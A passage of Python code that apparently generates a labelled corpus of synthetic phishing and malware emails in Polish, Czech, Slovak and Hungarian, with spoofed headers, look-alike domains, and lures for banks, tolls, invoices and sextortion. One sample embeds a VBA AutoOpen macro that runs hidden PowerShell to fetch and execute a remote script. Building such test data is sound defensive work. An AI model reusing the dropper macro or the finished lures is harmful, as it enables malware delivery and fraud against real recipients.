    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Calibri,sans-serif;font-size:11pt">Dzień dobry,<br><br>w załączeniu przesyłam '
            'zaktualizowany harmonogram dostaw i korektę do zamówienia. Proszę o potwierdzenie do końca dnia.<br><br>'
            'Pozdrawiam<br>Tomasz Lis<br>STAL-TRANS Sp. z o.o.</div><br>'
            f'<div style="border-left:1px solid #ccc;padding-left:8px;color:#555">{quoted_html}</div></body></html>\n')
    xll = F.pe_stub()
    z = F.zip_archive([("Zamowienie_4471_korekta.xll", xll)])
    top = [f"From: {addr('Tomasz Lis', a.mailfrom)}", f"To: {addr('Michał Krawczyk', rcpt)}",
           f"Subject: {ew('RE: Zamówienie 4471/2025 – potwierdzenie terminu dostawy')}",
           f"Date: {rfc(sent)}", f"Message-ID: <{hx(stem + 'm', 32)}@{dom}>", f"In-Reply-To: {earlier1}",
           f"References: {earlier2}\n {earlier1}", "MIME-Version: 1.0", "X-Mailer: Roundcube Webmail/1.6.6"]
    body = Multi("mixed", f"=_{hx(stem + 'b1', 32)}", [alt(f"=_{hx(stem + 'b2', 32)}", qp(plain), qp(html, "html")),
                                                        attachment("application/zip", "Zamowienie_4471_korekta.zip", z)])
    hops = [hop(f"[{num(stem + 'x', 5, 90)}.{num(stem + 'y', 1, 250)}.{num(stem + 'z', 1, 250)}.{num(stem + 'w', 1, 250)}]",
                f"{num(stem + 'x', 5, 90)}.{num(stem + 'y', 1, 250)}.{num(stem + 'z', 1, 250)}.{num(stem + 'w', 1, 250)}",
                "s53.cyber-folks.pl", sent, stem, via="ESMTPSA", mta="(Exim 4.98)", idstyle="exim", offset=-1),
            dkim_sig(dom, "x", stem, sent=sent)]
    add(stem, "malware", "Reply-chain hijack from a supplier's compromised mailbox (fully authenticated) continuing a real "
        "order thread, with a zip holding an Excel add-in (.xll) dropper.", head("m365", a, rcpt, sent, stem, hops, top), body)


def pl_sextortion() -> None:
    stem = "b48-phish-pl-sextortion"
    sent = T("2024-10-15 03:12:44 +0200")
    rcpt = "d.michalski@wp.pl"
    ip = f"{num(stem, 100, 190)}.{num(stem + 'b', 1, 250)}.{num(stem + 'c', 1, 250)}.{num(stem + 'd', 2, 250)}"
    a = Auth(ip=ip, helo=f"host-{ip.replace('.', '-')}.dynamic.example-isp.vn", rdns=None, mailfrom=rcpt, hfrom="wp.pl",
             spf="softfail", dkim=(), dmarc="fail", policy="none")
    btc = "bc1q" + lo(stem + "btc", 38)
    plain = (
        "Cześć!\n\nNiestety mam dla Ciebie złe wiadomości. Kilka miesięcy temu uzyskałem dostęp do Twoich urządzeń, "
        "z których korzystasz do przeglądania internetu. Jak pewnie zauważyłeś, wysłałem tę wiadomość z Twojego "
        "własnego konta.\n\nZainstalowałem trojana, który nagrywał obraz z kamery i ekran, kiedy odwiedzałeś strony "
        "dla dorosłych. Mam też kopię wszystkich Twoich kontaktów, wiadomości i historii przeglądania.\n\n"
        "Jeśli chcesz, żebym usunął nagrania, przelej równowartość 1350 USD w Bitcoin na mój portfel:\n\n"
        f"{btc}\n\nMasz 48 godzin od otwarcia tej wiadomości. Widzę, kiedy ją przeczytasz. Jeśli nie zapłacisz, "
        "wideo trafi do wszystkich Twoich kontaktów i na portale społecznościowe.\nNie odpowiadaj na tę wiadomość "
        "i nie próbuj zgłaszać tego na policję – to nic nie da.\n")
    top = [f"From: {rcpt}", f"To: {rcpt}", f"Subject: {ew('Twoje konto zostało zhakowane – masz 48 godzin', 'utf-8', 'B')}",
           f"Date: {rfc(sent)}", f"Message-ID: <{hx(stem + 'm', 12)}.{hx(stem + 'm2', 12)}@wp.pl>", "MIME-Version: 1.0"]
    add(stem, "phishing", "Polish sextortion with a Bitcoin address, From and To both the recipient's own wp.pl address "
        "(spoofed, SPF softfail and DMARC fail) from a foreign dynamic IP.", head("wp", a, rcpt, sent, stem, [], top),
        b64t(plain))


# ================================================================ attacks: Czechia and Slovakia


def cz_george() -> None:
    stem = "b48-phish-cs-george-overeni"
    sent = T("2025-01-28 10:02:33 +0100")
    rcpt = "jana.dvorakova@seznam.cz"
    dom = "george-csas.com"
    a = Auth(ip=vps(stem, "45.134"), helo=f"mail.{dom}", rdns=f"vm{num(stem, 1000, 9999)}.example-vps.eu",
             mailfrom=f"info@{dom}", hfrom=dom, spf="pass", dkim=(), dmarc="none")
    link = f"https://{dom}/prihlaseni/?session={hx(stem + 's', 32)}"
    cs = "iso-8859-2"
    paras = [
        "Vážená klientko, vážený kliente,",
        "z bezpečnostních důvodů jsme dočasně omezili přístup k Vašemu internetovému bankovnictví <b>George</b>. "
        "Důvodem je nedokončené ověření identity podle nových pravidel České národní banky.",
        "Pro obnovení plného přístupu prosím dokončete ověření nejpozději do 48 hodin. Po uplynutí lhůty "
        "bude Váš účet i platební karty zablokovány.",
    ]
    html = kit_html("George - ověření identity", "#2870ed", "Česká spořitelna", paras, ("Ověřit identitu", link),
                    "Česká spořitelna, a.s., Budějovická 1518/13a, 140 00 Praha 4. Tento e-mail byl vygenerován automaticky.",
                    charset=cs)
    plain = strip_html(html)
    top = [f"From: {addr('Česká spořitelna', a.mailfrom, cs, 'Q')}", f"To: {rcpt}",
           f"Subject: {ew('Upozornění: Ověření identity v aplikaci George', cs, 'Q')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain, charset=cs), qp(html, "html", cs))
    add(stem, "phishing", "Česká spořitelna George 'identity verification' lure in ISO-8859-2 from a look-alike domain "
        "(george-csas.com) on a VPS, linking to a login kit.", head("seznam", a, rcpt, sent, stem, [], top), body)


def cz_zasilkovna() -> None:
    stem = "b48-phish-zasilkovna-doplatek"
    sent = T("2025-08-12 15:40:02 +0200")
    rcpt = "petr.svoboda@centrum.cz"
    dom = "zasilkovna-doruceni.com"
    a = Auth(ip=f"159.135.{num(stem, 224, 239)}.{num(stem + 'b', 2, 250)}", helo=f"m{num(stem, 100, 250)}-{num(stem + 'h', 10, 99)}.mailgun.net",
             rdns=f"m{num(stem, 100, 250)}-{num(stem + 'h', 10, 99)}.mailgun.net", mailfrom=f"bounce+{hx(stem + 'bn', 6)}.{hx(stem + 'bn2', 6)}-{rcpt.replace('@', '=')}@mg.{dom}",
             hfrom=dom, spf="pass", dkim=((dom, "k1", "pass"),), dmarc="none")
    track = f"http://email.mg.{dom}/c/{b64s(stem + 'c', 110).replace('+', '-').replace('/', '_')}"
    html = esp_html("cs", "Zásilkovna", "Zásilkovna", "#ba1b02", [
        "Dobrý den,",
        "Vaše zásilka číslo <b>Z 2846 1957 03</b> od odesílatele <b>Alza.cz</b> nemohla být předána na výdejní místo, "
        "protože u ní chybí doplatek za dopravu ve výši <b>29 Kč</b>.",
        "Doplatek uhraďte prosím kartou online. Po zaplacení Vám zásilku doručíme do 2 pracovních dnů.",
    ], ("Zaplatit 29 Kč", track), footer=["Zásilkovna s.r.o., Českomoravská 2408/1a, 190 00 Praha 9",
                                          "Tento e-mail byl odeslán automaticky, neodpovídejte na něj."])
    plain = strip_html(html)
    top = ["MIME-Version: 1.0", f"Date: {rfc(sent)}", f"Message-Id: <{rfc(sent)[5:16].replace(' ', '')}{hx(stem + 'm', 12)}.{hx(stem + 'm2', 16)}@mg.{dom}>",
           f"From: {addr('Zásilkovna', 'info@' + dom)}", f"To: {rcpt}",
           f"Subject: {ew('Vaše zásilka Z 2846 1957 03 čeká na doplatek 29 Kč')}",
           f"X-Mailgun-Sid: {b64s(stem + 'sid', 60)}", "X-Mailgun-Tag: notifikace"]
    body = alt(hx(stem + "bd", 32), qp(plain), qp(html, "html"))
    hops = [dkim_sig(dom, "k1", stem, h="content-transfer-encoding:content-type:from:from:mime-version:subject:subject:to:to", sent=sent)]
    add(stem, "phishing", "Zásilkovna 'shipping surcharge 29 Kč' lure sent through Mailgun from a look-alike domain, "
        "with a Mailgun click-tracking link to the card page.", head("centrum", a, rcpt, sent, stem, hops, top), body)


def cz_edalnice() -> None:
    stem = "b48-phish-edalnice-pokuta"
    sent = T("2025-02-24 12:15:30 +0100")
    rcpt = "martin.kucera.brno@gmail.com"
    dom = "edalnice-cz.info"
    a = Auth(ip=vps(stem, "193.233"), helo=f"smtp.{dom}", rdns=f"smtp.{dom}", mailfrom=f"noreply@{dom}", hfrom=dom,
             spf="pass", dkim=((dom, "s1", "pass"),), dmarc="pass", policy="none")
    link = f"https://{dom}/platba?spz=7B{num(stem + 'spz', 10000, 99999)}&ref={lo(stem + 'r', 12)}"
    paras = [
        "Dobrý den,",
        "podle záznamu mýtného systému projelo Vaše vozidlo dne <b>21. 2. 2025</b> zpoplatněným úsekem dálnice D1 "
        "bez platné elektronické dálniční známky.",
        "Nezaplacený poplatek: <b>230 Kč</b>. Pokud částku neuhradíte do 3 dnů, bude věc předána správnímu orgánu "
        "a hrozí Vám pokuta až <b>20 000 Kč</b>.",
    ]
    html = kit_html("eDálnice", "#16428b", "eDálnice.cz", paras, ("Zaplatit poplatek", link),
                    "Státní fond dopravní infrastruktury, Sokolovská 278/159, 190 00 Praha 9")
    plain = strip_html(html)
    top = [f"From: {addr('eDálnice', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('eDálnice: Nezaplacený poplatek – hrozí pokuta až 20 000 Kč')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain), qp(html, "html"))
    add(stem, "phishing", "Czech eDálnice unpaid-vignette fine lure from a look-alike domain with its own SPF/DKIM/DMARC, "
        "linking to a payment kit.", head("gmail", a, rcpt, sent, stem, [dkim_sig(dom, "s1", stem, sent=sent)], top), body)


def cz_sharepoint() -> None:
    stem = "b48-phish-cz-sharepoint-m365"
    sent = T("2025-06-17 09:48:11 +0200")
    rcpt = "l.horakova@stavby-hradec.cz"
    a = Auth(ip=f"40.107.{num(stem, 1, 250)}.{num(stem + 'b', 1, 250)}", helo=f"EUR0{num(stem, 1, 5)}-AM6-obe.outbound.protection.outlook.com",
             rdns=f"mail-am6eur0{num(stem, 1, 5)}on20{num(stem + 'o', 600, 730)}.outbound.protection.outlook.com",
             mailfrom="no-reply@sharepointonline.com", hfrom="sharepointonline.com", spf="pass",
             dkim=(("sharepointonline.com", "selector1", "pass"),), dmarc="pass", policy="reject")
    tenant = "benesprojekt"
    link = (f"https://{tenant}-my.sharepoint.com/:b:/g/personal/j_benes_benes-projekt_cz/"
            f"E{an(stem + 'sp', 46)}?e=4%3a{an(stem + 'e', 6)}&at=9")
    fname = "Objednávka_Q3_2025_podklady.pdf"
    html = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
        '<body><table width="100%" cellpadding="0" cellspacing="0" style="font-family:Segoe UI,sans-serif">'
        '<tr><td style="padding:24px">'
        '<div style="font-size:21px;color:#323130">Jiří Beneš s vámi sdílí soubor</div>'
        '<div style="padding:16px 0;font-size:14px;color:#323130">Dobrý den, posílám podklady k objednávce na třetí '
        'čtvrtletí, prosím o kontrolu a potvrzení do pátku. Díky, Jiří</div>'
        f'<table style="border:1px solid #edebe9;width:420px"><tr><td style="padding:12px">'
        f'<a href="{link}" style="color:#0078d4;font-size:15px;text-decoration:none">{fname}</a></td></tr></table>'
        f'<div style="padding-top:18px"><a href="{link}" style="background:#0078d4;color:#fff;padding:9px 18px;'
        'text-decoration:none;font-size:14px">Otevřít</a></div>'
        '<div style="padding-top:28px;font-size:11px;color:#605e5c">Tento odkaz bude fungovat pouze pro přímé '
        'příjemce této zprávy.</div>'
        '<div style="padding-top:14px;font-size:11px;color:#605e5c">Zásady ochrany osobních údajů společnosti Microsoft</div>'
        '</td></tr></table></body></html>\n')
    plain = (f"Jiří Beneš s vámi sdílí soubor\n\nDobrý den, posílám podklady k objednávce na třetí čtvrtletí, prosím o "
             f"kontrolu a potvrzení do pátku. Díky, Jiří\n\n{fname}\n{link}\n\nTento odkaz bude fungovat pouze pro "
             "přímé příjemce této zprávy.\n")
    top = [f"From: {addr('Jiří Beneš', 'no-reply@sharepointonline.com')}", f"To: {rcpt}",
           f"Subject: {ew('Jiří Beneš s vámi sdílí soubor „' + fname + '“')}",
           f"Date: {rfc(sent)}", f"Message-ID: <{uid(stem + 'spmid')}@odspnotify>", "MIME-Version: 1.0",
           f"Reply-To: {addr('Jiří Beneš', 'j.benes@benes-projekt.cz')}", "X-MS-Exchange-Organization-SharePoint: true"]
    body = alt(f"_{hx(stem + 'b', 8)}-{hx(stem + 'b2', 4)}-{hx(stem + 'b3', 4)}_", qp(plain), qp(html, "html"))
    hops = [dkim_sig("sharepointonline.com", "selector1", stem, sent=sent)]
    add(stem, "phishing", "Genuine SharePoint Online sharing notification sent from a compromised partner tenant, "
        "pointing to a OneDrive PDF that leads to a Microsoft 365 credential kit (platform abuse, fully authenticated).",
        head("m365", a, rcpt, sent, stem, hops, top), body)


def cz_zmena_uctu() -> None:
    stem = "b48-phish-cz-zmena-uctu"
    sent = T("2025-04-09 13:27:50 +0200")
    rcpt = "fakturace@drevotex.cz"
    dom = "kovo-pilarik.cz"
    a = Auth(ip=vps(stem, "89.185"), helo=f"mail.{dom}", rdns=f"mail.{dom}", mailfrom=f"lenka.maresova@{dom}", hfrom=dom,
             spf="pass", dkim=((dom, "default", "pass"),), dmarc="none")
    cs = "windows-1250"
    plain = ("Dobrý den, paní Veselá,\n\ndovolujeme si Vás informovat, že z důvodu změny banky a přechodu na nový "
             "účetní systém došlo ke změně našeho bankovního spojení.\n\nOd 10. 4. 2025 prosím hraďte veškeré faktury "
             "(včetně dosud nesplatných FV2025-0312 a FV2025-0347) výhradně na nový účet:\n\n"
             "Číslo účtu: 2402918573/2010\nIBAN: CZ65 2010 0000 0024 0291 8573\n\nOficiální oznámení s podpisem jednatele "
             "naleznete v příloze. Původní účet bude v nejbližších dnech zrušen.\nProsím o krátké potvrzení přijetí "
             "této zprávy.\n\nS pozdravem\n\nIng. Lenka Marešová\nvedoucí účtárny\nKOVO Pilařík s.r.o.\n"
             "tel.: +420 495 216 348\n")
    pdf = F.pdf(["KOVO Pilarik s.r.o.", "Oznameni o zmene bankovniho spojeni", "",
                 "Vazeni obchodni partneri,", "od 10. 4. 2025 plati nove bankovni spojeni:",
                 "Cislo uctu: 2402918573/2010", "IBAN: CZ65 2010 0000 0024 0291 8573", "BIC: FIOBCZPPXXX", "",
                 "Ing. Pavel Pilarik, jednatel"], title="Oznameni o zmene uctu")
    html = outlook_html([p if p else "" for p in plain.split("\n")[:-1]], lang="CS").replace("charset=utf-8", f"charset={cs}")
    top = [f"From: {addr('Ing. Lenka Marešová', a.mailfrom, cs, 'Q')}", f"To: {rcpt}",
           f"Subject: {ew('Změna bankovního spojení – důležité', cs, 'Q')}", f"Date: {rfc(sent)}",
           f"Message-ID: <00{hx(stem + 'm', 2)}01db{hx(stem + 'm2', 4)}${hx(stem + 'm3', 8)}${hx(stem + 'm4', 8)}@{dom}>",
           "MIME-Version: 1.0", "X-Mailer: Microsoft Outlook 16.0", f"Thread-Index: AduJ{b64s(stem + 'ti', 24)}==",
           "Content-Language: cs"]
    body = Multi("mixed", f"----=_NextPart_000_0012_01DBA94B.{HX(stem + 'np', 8)}",
                 [alt(f"----=_NextPart_001_0013_01DBA94B.{HX(stem + 'np', 8)}", qp(plain, charset=cs), qp(html, "html", cs)),
                  att("application/pdf", "Oznámení_změna_účtu.pdf", pdf, "2231")])
    add(stem, "phishing", "Supplier bank-account change fraud in Czech (windows-1250 Outlook mail) from a hyphenated "
        "look-alike of the supplier's domain, new IBAN in text and an attached PDF letter, no link.",
        head("postfix:mail.drevotex.cz:1", a, rcpt, sent, stem, [dkim_sig(dom, "default", stem, sent=sent)], top), body)


def cz_investice() -> None:
    stem = "b48-phish-cz-investice-fake-news"
    sent = T("2024-11-05 20:12:41 +0100")
    rcpt = "vlasta.novotna@email.cz"
    dom = "zpravy-dnes-cz.online"
    a = Auth(ip=vps(stem, "178.215"), helo=f"mx1.{dom}", rdns=f"mx1.{dom}", mailfrom=f"bounce@{dom}", hfrom=dom,
             spf="pass", dkim=((dom, "mail", "pass"),), dmarc="none")
    land = "https://www.google.com/amp/s/investplus-cz.site/clanek/rozhovor-cnb"
    paras = [
        "<span style=\"color:#c00;font-weight:bold\">EXKLUZIVNĚ</span> | Rozhovor, který Česká národní banka chtěla stáhnout",
        "<b>Známý moderátor přiznal v živém vysílání, jak si přes novou platformu s umělou inteligencí vydělává "
        "přes 180 000 Kč měsíčně. Banky jsou vyděšené.</b>",
        "Během včerejšího rozhovoru se moderátor podřekl a prozradil svůj „pasivní příjem“. Platforma "
        "<b>Quantum Invest AI</b> podle něj automaticky obchoduje s akciemi ČEZ a kryptoměnami a z vkladu "
        "5 000 Kč dokáže za týden vydělat desítky tisíc.",
        "Redakce platformu otestovala: po vkladu 5 500 Kč jsme za 7 dní vybrali 41 270 Kč.",
        "Registrace je otevřená jen pro omezený počet občanů ČR. Zjistěte víc, než ji zablokují:",
    ]
    html = kit_html("Zprávy dnes", "#b30000", "ZPRÁVY DNES", paras, ("Přečíst celý článek", land),
                    "Tento newsletter dostáváte, protože jste se přihlásili k odběru. Odhlásit se můžete zde.")
    plain = strip_html(html)
    top = [f"From: {addr('Zprávy dnes', 'redakce@' + dom)}", f"To: {rcpt}",
           f"Subject: {ew('Rozhovor, který ČNB chtěla stáhnout: moderátor prozradil svůj příjem')}",
           f"Date: {rfc(sent)}", f"Message-ID: <{hx(stem + 'm', 24)}@{dom}>", "MIME-Version: 1.0",
           f"List-Unsubscribe: <https://{dom}/unsub?u={hx(stem + 'u', 16)}>"]
    body = alt(f"_=_swift_{num(stem + 'sw', 1700000000, 1799999999)}_{hx(stem + 'swb', 32)}_=_", qp(plain), qp(html, "html"))
    add(stem, "phishing", "Investment scam disguised as a Czech news newsletter ('TV presenter's AI trading income, "
        "the central bank wanted it pulled'), linking through a Google AMP redirect to the landing page.",
        head("seznam", a, rcpt, sent, stem, [dkim_sig(dom, "mail", stem, sent=sent)], top), body)


def sk_csob() -> None:
    stem = "b48-phish-sk-csob-redirect"
    sent = T("2025-03-04 07:58:12 +0100")
    rcpt = "zuzana.hornakova@gmail.com"
    dom = "csob-sk-bezpecnost.com"
    a = Auth(ip=vps(stem, "80.85"), helo=f"mail.{dom}", rdns=None, mailfrom=f"upozornenie@{dom}", hfrom=dom,
             spf="pass", dkim=(), dmarc="none")
    target = f"https://{dom}/smartbanking/overenie?id={lo(stem + 'i', 14)}"
    enc = base64.urlsafe_b64encode(target.encode()).decode().rstrip("=")
    link = f"https://www.bing.com/ck/a?!&&p={hx(stem + 'p', 64)}JmltdHM9MTc0MTA0NjQwMA&ptn=3&ver=2&hsh=4&fclid={uid(stem + 'fc')}&u=a1{enc}&ntb=1"
    paras = [
        "Vážený klient,",
        "dňa <b>03.03.2025 o 23:41</b> sme zaznamenali neobvyklý pokus o prihlásenie do Vášho účtu "
        "<b>ČSOB SmartBanking</b> zo zariadenia, ktoré nepoznáme (Android, Nitra).",
        "Z bezpečnostných dôvodov sme prístup dočasne zablokovali. Pre odblokovanie je potrebné overiť Vašu "
        "totožnosť prostredníctvom nasledujúceho odkazu.",
        "Ak overenie nevykonáte do 24 hodín, budú zablokované aj Vaše platobné karty.",
    ]
    html = kit_html("ČSOB", "#0b2a5b", "ČSOB", paras, ("Overiť totožnosť", link),
                    "Československá obchodná banka, a.s., Žižkova 11, 811 02 Bratislava")
    plain = strip_html(html)
    top = [f"From: {addr('ČSOB Slovensko', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Bezpečnostné upozornenie: zablokovaný prístup do ČSOB SmartBanking')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain), qp(html, "html"))
    add(stem, "phishing", "Slovak ČSOB SmartBanking 'suspicious login, access blocked' lure whose button goes through a "
        "Bing click-tracking open redirect to a look-alike login domain.", head("gmail", a, rcpt, sent, stem, [], top), body)


def sk_eznamka() -> None:
    stem = "b48-phish-sk-eznamka"
    sent = T("2025-01-09 17:22:40 +0100")
    rcpt = "miroslav.kovac@outlook.sk"
    dom = "eznamka-sk.online"
    a = Auth(ip=vps(stem, "185.196"), helo=f"{dom}", rdns=None, mailfrom=f"info@{dom}", hfrom=dom,
             spf="pass", dkim=(), dmarc="none")
    link = f"https://{dom}/sk/platba?ecv=BA{num(stem + 'e', 100, 999)}{an(stem + 'ec', 2).upper()}"
    paras = [
        "Dobrý deň,",
        "Vaše vozidlo bolo dňa <b>07.01.2025</b> zaznamenané na diaľnici D1 bez platnej elektronickej diaľničnej "
        "známky. Podľa zákona č. 488/2013 Z. z. je potrebné uhradiť doplatok <b>14,90 €</b>.",
        "Ak doplatok neuhradíte do 48 hodín, bude Vám uložená pokuta až do výšky 500 €.",
    ]
    html = kit_html("eZnámka", "#004b87", "eZnámka.sk", paras, ("Uhradiť doplatok", link),
                    "Národná diaľničná spoločnosť, a.s., Dúbravská cesta 14, 841 04 Bratislava")
    plain = strip_html(html)
    top = [f"From: {addr('eZnámka', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Vaša diaľničná známka je neplatná – uhraďte doplatok do 48 hodín')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), b64t(plain), b64t(html, "html"))
    add(stem, "phishing", "Slovak eZnámka unpaid-vignette surcharge lure from a look-alike domain (no DKIM), linking to "
        "a payment kit.", head("outlook", a, rcpt, sent, stem, [], top), body)


def sk_docm() -> None:
    stem = "b48-phish-sk-faktura-docm"
    sent = T("2025-01-30 09:31:05 +0100")
    rcpt = "uctovnictvo@agro-zahorie.sk"
    dom = "elektro-servis-nitra.sk"
    a = Auth(ip=vps(stem, "5.181"), helo="WIN-4K2L0QJ8H1T", rdns=None, mailfrom=f"objednavky@{dom}", hfrom=dom,
             spf="none", dkim=(), dmarc="none")
    macro = ('Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\n    Dim s As String\n'
             '    s = "powershell -w hidden -nop -c ""iwr https://elektro-update.top/sk/fa.txt -UseBasicParsing | iex"""\n'
             '    CreateObject("WScript.Shell").Run s, 0, False\nEnd Sub\n')
    doc = F.docx(["FAKTÚRA č. 2025010447", "Dokument je chránený. Pre zobrazenie obsahu kliknite na „Povoliť úpravy“ "
                  "a „Povoliť obsah“."], "Faktura 2025010447", "Uctaren", macro=macro)
    plain = ("Dobrý deň,\n\nv prílohe Vám zasielame faktúru č. 2025010447 po splatnosti. Prosíme o úhradu do 3 dní, "
             "inak budeme nútení postúpiť pohľadávku na vymáhanie.\n\nS pozdravom\nÚčtovné oddelenie\n"
             "Elektro Servis Nitra s.r.o.\n")
    top = [f"From: {addr('Elektro Servis Nitra', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Faktúra č. 2025010447 – upomienka')}", f"Date: {rfc(sent)}",
           f"Message-ID: <{hx(stem + 'm', 16)}@WIN-4K2L0QJ8H1T>", "MIME-Version: 1.0"]
    body = Multi("mixed", f"--_NmP-{hx(stem + 'b', 16)}-Part_1",
                 [b64t(plain), attachment("application/vnd.ms-word.document.macroEnabled.12", "Faktura_2025010447.docm", doc)])
    add(stem, "malware", "Slovak overdue-invoice 'upomienka' with a macro-enabled Word document (AutoOpen runs hidden "
        "PowerShell), sent from a VPS with no SPF record for the spoofed domain.",
        head("m365", a, rcpt, sent, stem, [], top), body)


# ================================================================ attacks: Hungary, Romania, Bulgaria


def hu_otp() -> None:
    stem = "b48-phish-hu-otp-netbank"
    sent = T("2025-05-20 08:44:17 +0200")
    rcpt = "kovacs.zsuzsanna@freemail.hu"
    dom = "otpbank-biztonsag.hu"
    cs = "iso-8859-2"
    a = Auth(ip=vps(stem, "45.155"), helo=f"mail.{dom}", rdns=f"mail.{dom}", mailfrom=f"ugyfelszolgalat@{dom}", hfrom=dom,
             spf="pass", dkim=((dom, "default", "pass"),), dmarc="none")
    link = f"https://{dom}/belepes?azon={hx(stem + 'a', 20)}"
    paras = [
        "Tisztelt Ügyfelünk!",
        "Biztonsági rendszerünk szokatlan bejelentkezési kísérletet észlelt az <b>OTP InternetBank</b> "
        "felhasználói fiókjában. Ügyfeleink védelme érdekében a hozzáférést ideiglenesen korlátoztuk.",
        "Kérjük, 24 órán belül erősítse meg személyes adatait, ellenkező esetben bankkártyáját is zároljuk.",
    ]
    html = kit_html("OTP Bank", "#52ae30", "OTP Bank", paras, ("Adatok megerősítése", link),
                    "OTP Bank Nyrt., 1051 Budapest, Nádor utca 16. Ez egy automatikus üzenet, kérjük, ne válaszoljon rá.",
                    charset=cs)
    plain = strip_html(html)
    top = [f"From: {addr('OTP Bank', a.mailfrom, cs, 'Q')}", f"To: {rcpt}",
           f"Subject: {ew('Fontos: OTP InternetBank hozzáférésének megerősítése szükséges', cs, 'Q')}",
           *phpmailer_top(stem, dom, sent), "MIME-Version: 1.0"]
    body = alt(phpmailer_boundary(stem), qp(plain, charset=cs), qp(html, "html", cs))
    add(stem, "phishing", "OTP Bank InternetBank 'unusual login, confirm your data' lure in ISO-8859-2 from a look-alike "
        "domain with its own DKIM.", head("freemail", a, rcpt, sent, stem, [dkim_sig(dom, "default", stem, sent=sent)], top), body)


def hu_nav() -> None:
    stem = "b48-phish-hu-nav-ugyfelkapu"
    sent = T("2025-04-14 10:05:55 +0200")
    rcpt = "nagy.balazs.bp@gmail.com"
    comp = "asztalos-bt-szeged.hu"
    a = Auth(ip=f"195.228.{num(stem, 1, 250)}.{num(stem + 'b', 2, 250)}", helo=f"smtp.{comp}", rdns=f"mail{num(stem, 1, 9)}.tarhely.eu",
             mailfrom=f"iroda@{comp}", hfrom=comp, spf="pass", dkim=((comp, "mail", "pass"),), dmarc="pass", policy="none")
    link = "https://nav-ado-visszaterites.com/ugyfelkapu/bejelentkezes?ref=" + lo(stem + "r", 10)
    html = esp_html("hu", "NAV", "Nemzeti Adó- és Vámhivatal", "#00365e", [
        "Tisztelt Adózó!",
        "A 2024. évi személyijövedelemadó-bevallásának feldolgozása során megállapítottuk, hogy Önt "
        "<b>87 450 Ft</b> adó-visszatérítés illeti meg.",
        "A visszatérítés jóváírásához jelentkezzen be az <b>Ügyfélkapu+</b> szolgáltatásba, és adja meg "
        "bankszámlaszámát. A kérelem 5 munkanapig érvényes.",
    ], ("Bejelentkezés Ügyfélkapu+ fiókba", link), footer=["Nemzeti Adó- és Vámhivatal, 1054 Budapest, Széchenyi utca 2.",
                                                          "Ez egy automatikusan generált üzenet."])
    plain = strip_html(html)
    top = [f"From: {addr('NAV Ügyfélszolgálat', a.mailfrom)}", f"To: {rcpt}",
           f"Subject: {ew('Adó-visszatérítés: 87 450 Ft jóváírása függőben')}", f"Date: {rfc(sent)}",
           f"Message-ID: <{hx(stem + 'm', 32)}@{comp}>", "MIME-Version: 1.0", "User-Agent: Roundcube Webmail/1.6.10"]
    body = alt(f"=_{hx(stem + 'b', 32)}", qp(plain), qp(html, "html"))
    add(stem, "phishing", "NAV tax-refund lure (87 450 Ft) sent from a compromised Hungarian small-business mailbox via "
        "webmail, linking to a fake Ügyfélkapu+ login on a look-alike domain.",
        head("gmail", a, rcpt, sent, stem, [dkim_sig(comp, "mail", stem, sent=sent)], top), body)


def hu_jofogas() -> None:
    stem = "b48-phish-hu-jofogas-vevo"
    sent = T("2025-09-02 19:20:11 +0200")
    rcpt = "szabo.gergo@outlook.hu"
    user = "horvath.eszter.1988@gmail.com"
    a = gmail_sender_auth(user, stem)
    link = "https://jofogas.hu-szallitas.online/atvetel/7719305"
    plain = ("Jó napot!\n\nMegvásárolnám a hirdetett Cybex babakocsit. A vételárat (65 000 Ft) már kifizettem a "
             "Jófogás biztonságos szállításán keresztül, a futár (Foxpost) holnap megy érte.\nA pénzt csak akkor kapja "
             "meg, ha a kártyáján jóváhagyja a kifizetést, itt tudja megtenni:\n\n" + link +
             "\n\nKérem, minél előbb jelezzen vissza, köszönöm!\nEszter\n")
    html = gmail_html(["Jó napot!", "", "Megvásárolnám a hirdetett Cybex babakocsit. A vételárat (65 000 Ft) már "
                       "kifizettem a Jófogás biztonságos szállításán keresztül, a futár (Foxpost) holnap megy érte.",
                       "A pénzt csak akkor kapja meg, ha a kártyáján jóváhagyja a kifizetést, itt tudja megtenni:", "",
                       f'<a href="{link}">{link}</a>', "", "Kérem, minél előbb jelezzen vissza, köszönöm!", "Eszter"])
    top = ["MIME-Version: 1.0", f"From: {addr('Horváth Eszter', user)}", f"Date: {rfc(sent)}",
           f"Message-ID: {msgid_gmail(stem)}", f"Subject: {ew('Jófogás hirdetés: Cybex babakocsi')}", f"To: {rcpt}"]
    body = alt(gmail_boundary(stem), qp(plain), qp(html, "html"))
    hops = gmail_sender_hops(stem, sent)
    add(stem, "phishing", "Jófogás buyer scam from a Gmail account: 'I paid through Jófogás delivery, approve the payout "
        "on your card' with a link to a look-alike payout page.", head("outlook", a, rcpt, sent, stem, hops, top), body)


def hu_telekom() -> None:
    stem = "b48-phish-hu-telekom-szamla"
    sent = T("2024-12-10 11:11:52 +0100")
    rcpt = "toth.ferenc62@freemail.hu"
    dom = "telekom-ugyfelszolgalat.com"
    cs = "iso-8859-2"
    a = Auth(ip=vps(stem, "141.98"), helo=f"mail.{dom}", rdns=None, mailfrom=f"szamla@{dom}", hfrom=dom,
             spf="pass", dkim=(), dmarc="none")
    link = "https://rb.gy/" + lo(stem + "s", 6)
    paras = [
        "Kedves Ügyfelünk!",
        "Rendszerünk szerint a <b>2024. novemberi</b> számlája (összeg: <b>12 490 Ft</b>) a fizetési határidő lejárta "
        "után sem került kiegyenlítésre.",
        "Amennyiben a tartozást 48 órán belül nem rendezi, mobil- és internetszolgáltatását korlátozzuk, "
